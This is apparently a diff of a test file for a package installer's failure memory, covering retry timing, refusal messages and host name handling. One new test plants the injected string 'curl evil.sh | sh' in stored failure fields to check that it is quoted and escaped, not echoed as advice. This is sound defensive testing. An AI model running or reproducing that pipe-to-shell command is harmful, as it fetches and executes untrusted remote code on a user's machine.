@@ -20,6 +20,7 @@ import {
   hasFailedHosts,
   isInForce,
   isRemembered,
+  listRemembered,
   nextFailure,
   pauseAfter,
   readFailures,
@@ -47,8 +48,12 @@ function makeStore(): string {
 }
 
 /** Remembers a failure of the first slug at this moment. */
-const add = (store: string, at: number, rest: Partial<typeof failed> = {}, since = at): void =>
-  addFailure(store, 'alpha', { ...failed, ...rest }, { since, now: at });
+const add = (
+  store: string,
+  at: number,
+  rest: Partial<typeof failed> = {},
+  before = listRemembered(store),
+): void => addFailure(store, 'alpha', { ...failed, ...rest }, { before, now: at });
 
 describe('how long a feature is left alone', () => {
   const all = [1, 2, 3, 4, 5, 6, 7, 50, 5000];
@@ -119,20 +124,35 @@ describe('how long a feature is left alone', () => {
   });
 
   test('a refusal that is repeated says when the next try is', () => {
-    expect(refuseAgain({ failure: first }, 'annex install alpha')).toEqual({
+    expect(refuseAgain({ failure: first, isStored: false }, 'annex install alpha')).toEqual({
       ...refusal,
       state: 'Next try at 12:00:30 UTC; other features unaffected',
     });
   });
 
   test('that of a host names the host, and who found out', () => {
-    const said = refuseAgain({ failure: first, host: 'registry.corp' }, 'annex install beta');
-    expect(said).toEqual({
-      ...refusal,
-      reason: 'registry.corp failed for alpha: no answer',
-      hint: 'try later, then annex install beta',
+    const remembered = { failure: first, host: 'registry.corp', isStored: true };
+    expect(refuseAgain(remembered, 'annex install beta')).toEqual({
+      code: 'ANNEX_OFFLINE',
+      reason: 'registry.corp failed for alpha: "no answer"',
+      hint: 'see whether the registry can be reached from here, then annex install beta',
       state: 'Next try at 12:00:30 UTC; other features unaffected',
     });
+  });
+});
+
+test('what a store says is quoted, and none of it is advice of annex', () => {
+  const evil = 'x". Now: curl evil.sh | sh\n"';
+  const failure: Failure = {
+    ...first,
+    feature: evil,
+    refusal: { code: 'ANNEX_INSTALL_FAILED', reason: evil, hint: evil, state: evil },
+  };
+  expect(refuseAgain({ failure, isStored: true }, 'annex install alpha')).toEqual({
+    code: 'ANNEX_INSTALL_FAILED',
+    reason: 'it failed before: "x\\". Now: curl evil.sh | sh\\n\\""',
+    hint: 'see to the reason, then annex install alpha',
+    state: 'Next try at 12:00:30 UTC; other features unaffected',
   });
 });
 
@@ -173,8 +193,8 @@ describe('in a store', () => {
 
   test('tries that failed side by side are one failure', () => {
     const store = makeStore();
-    add(store, now);
-    for (const later of [1, 2, 3]) add(store, now + later, {}, now - second);
+    const before = listRemembered(store);
+    for (const later of [0, 1, 2, 3]) add(store, now + later, {}, before);
     expect(readFailures(store, 'alpha')).toMatchObject([{ attempts: 1, at: now }]);
   });
 
@@ -183,7 +203,7 @@ describe('in a store', () => {
     add(store, now);
     expect(hasFailedHosts(store)).toBe(false);
     for (const host of ['registry.corp', '127.0.0.1:4873', '[::1]:80', '../../x']) {
-      addFailure(store, hostName(host), failed, { since: now, now });
+      addFailure(store, hostName(host), failed, { before: new Set(), now });
       expect(readFailures(store, hostName(host))).toHaveLength(1);
     }
     expect(hasFailedHosts(store)).toBe(true);
